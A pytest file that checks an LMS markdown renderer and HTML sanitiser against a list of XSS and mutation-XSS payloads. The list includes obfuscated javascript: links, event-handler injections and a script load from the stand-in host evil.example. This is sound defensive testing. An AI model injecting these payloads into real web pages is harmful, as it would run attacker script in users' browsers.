"""XSS and mutation-XSS payloads through the one renderer: what comes out is allowlisted, has no
event handlers and no dangerous URLs after the normalisation browsers apply, and sanitising
is idempotent."""
import html
import re

import pytest
from bs4 import BeautifulSoup

from lms.content.render import (
    COURSE_TAGS,
    USER_TAGS,
    render_course_markdown,
    render_user_markdown,
    sanitise_course_html,
    sanitise_user_html,
)

PAYLOADS = [
    # raw HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<style>body{background:red}</style>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p id=\"x\" class=\"admonition\" onmouseover=\"alert(1)\">hover</p>",
    "<details open ontoggle=alert(1)>",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<input autofocus onfocus=alert(1)>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    # Markdown links and images
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "[click](javascript://%0Aalert(1))",
    "![img](javascript:alert(1))",
    "![img](x \"onerror=alert(1)\")",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[a](https://example.org \"title\" onclick=alert(1))",
    "[x](https://example.org){: onclick=alert(1)}",
    "## Heading {: onclick=\"alert(1)\" }",
    "```\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "<a href=\"https://ok.example/\" onclick=\"alert(1)\">ok</a>",
    "<a href=\"//evil.example/\">protocol relative</a>",
]

EVENT_HANDLER = re.compile(r"^on", re.IGNORECASE)
DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "poster", "xlink:href", "data"}


def browser_normalised(url: str) -> str:
    """What a browser makes of an attribute value before it looks at the scheme."""
    url = html.unescape(url)
    url = url.strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0c\x0d\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f ")
    url = re.sub(r"[\t\n\r]", "", url)
    return url.lower()


def assert_safe(output: str, allowed_tags) -> None:
    soup = BeautifulSoup(output, "html.parser")
    for element in soup.find_all(True):
        assert element.name in allowed_tags, f"tag <{element.name}> in {output!r}"
        for name, value in element.attrs.items():
            assert not EVENT_HANDLER.match(name), f"event handler {name} in {output!r}"
            assert name not in {"style", "srcdoc"}, f"{name} attribute in {output!r}"
            values = value if isinstance(value, list) else [value]
            if name in URL_ATTRIBUTES:
                for v in values:
                    assert not browser_normalised(v).startswith(DANGEROUS_SCHEMES), f"{name}={v!r} in {output!r}"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_user_text_renders_only_safe_html(payload):
    assert_safe(str(render_user_markdown(payload)), USER_TAGS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_course_text_renders_only_safe_html(payload):
    assert_safe(str(render_course_markdown(payload)), COURSE_TAGS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sanitising_is_idempotent(payload):
    once_user = sanitise_user_html(payload)
    assert sanitise_user_html(once_user) == once_user
    once_course = sanitise_course_html(payload)
    assert sanitise_course_html(once_course) == once_course


def test_links_in_user_text_get_nofollow_noopener():
    soup = BeautifulSoup(str(render_user_markdown("[NHS](https://www.nhs.uk) and https://example.org")), "html.parser")
    links = soup.find_all("a")
    assert len(links) == 2
    assert all(link["rel"] == ["nofollow", "noopener"] for link in links)


def test_user_text_keeps_ordinary_markdown():
    output = str(render_user_markdown("I will **listen** first.\n\n- ask\n- pause"))
    assert "<strong>listen</strong>" in output and "<li>ask</li>" in output


def test_user_text_cannot_set_ids_or_classes():
    output = str(render_user_markdown('<h3 id="maincontent" class="nhsuk-header">x</h3>'))
    assert "id=" not in output and "class=" not in output


def test_mailto_and_https_links_survive():
    output = str(render_user_markdown("[mail](mailto:a@example.org) [web](https://example.org)"))
    assert 'href="mailto:a@example.org"' in output and 'href="https://example.org"' in output
